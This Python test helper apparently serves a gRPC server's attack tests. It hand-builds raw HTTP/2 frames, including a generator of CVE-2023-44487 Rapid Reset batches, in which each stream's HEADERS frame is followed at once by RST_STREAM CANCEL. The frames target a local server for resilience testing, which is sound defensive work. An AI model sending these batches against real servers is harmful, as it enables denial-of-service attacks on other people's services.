"""Raw HTTP/2 for the attack tests of the gRPC port and bench/hostile.py: frames written by hand
(an attacker sends what no well-behaved client library would) and the server's frames read back."""

from __future__ import annotations

import socket
import struct
from collections.abc import Callable, Iterable, Iterator

from hpack import Encoder

PREFACE = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n"
DATA, HEADERS, RST_STREAM, SETTINGS, PING, GOAWAY, WINDOW_UPDATE, CONTINUATION = (
    0x0,
    0x1,
    0x3,
    0x4,
    0x6,
    0x7,
    0x8,
    0x9,
)
END_STREAM, ACK, END_HEADERS = 0x1, 0x1, 0x4
CANCEL, ENHANCE_YOUR_CALM = 0x8, 0xB
FRAME_HEADER_BYTES = 9

# kind, flags, stream id, payload.
OnFrame = Callable[[int, int, int, bytes], None]


def frame(kind: int, flags: int, stream_id: int, payload: bytes = b"") -> bytes:
    return struct.pack("!I", len(payload))[1:] + struct.pack("!BBI", kind, flags, stream_id) + payload


def goaway_code(payload: bytes) -> int:
    return int(struct.unpack("!II", payload[:8])[1])


def read_frames(sock: socket.socket, on_frame: OnFrame) -> bool:
    """Reads the server's frames until it closes the connection, passing each to `on_frame`: True
    when the server closed it (end of stream, or a reset). A socket timeout propagates."""
    buffer = b""
    try:
        while True:
            chunk = sock.recv(65536)
            if not chunk:
                return True
            buffer += chunk
            while len(buffer) >= FRAME_HEADER_BYTES:
                length = int.from_bytes(buffer[:3], "big")
                end = FRAME_HEADER_BYTES + length
                if len(buffer) < end:
                    break
                stream_id = struct.unpack("!I", buffer[5:9])[0] & 0x7FFFFFFF
                on_frame(buffer[3], buffer[4], stream_id, buffer[FRAME_HEADER_BYTES:end])
                buffer = buffer[end:]
    except TimeoutError:
        raise
    except OSError:
        return True


def grpc_request_headers(path: str) -> list[tuple[str, str]]:
    """The headers of a gRPC call of `path`, as a client sends them."""
    return [
        (":method", "POST"),
        (":scheme", "http"),
        (":path", path),
        (":authority", "127.0.0.1"),
        ("content-type", "application/grpc"),
        ("te", "trailers"),
    ]


def unary_calls(path: str, stream_ids: Iterable[int], encoder: Encoder) -> bytes:
    """For each stream, a gRPC call of `path` with an empty request message: HEADERS, then DATA
    with END_STREAM."""
    headers = grpc_request_headers(path)
    frames = []
    for stream_id in stream_ids:
        frames.append(frame(HEADERS, END_HEADERS, stream_id, encoder.encode(headers)))
        frames.append(frame(DATA, END_STREAM, stream_id, b"\x00\x00\x00\x00\x00"))
    return b"".join(frames)


def rapid_reset_batches(path: str, streams: int, batch_streams: int) -> Iterator[bytes]:
    """CVE-2023-44487's frames: for each stream its HEADERS (a gRPC call of `path`) then its
    RST_STREAM CANCEL, `batch_streams` streams to a batch."""
    encoder = Encoder()
    headers = grpc_request_headers(path)
    first = encoder.encode(headers)
    # After the first block every header is in the dynamic table: each later block is the same.
    repeated = encoder.encode(headers)
    stream_id = 1
    for start in range(0, streams, batch_streams):
        parts = []
        for _ in range(min(batch_streams, streams - start)):
            parts.append(frame(HEADERS, END_HEADERS, stream_id, first if stream_id == 1 else repeated))
            parts.append(frame(RST_STREAM, 0, stream_id, struct.pack("!I", CANCEL)))
            stream_id += 2
        yield b"".join(parts)
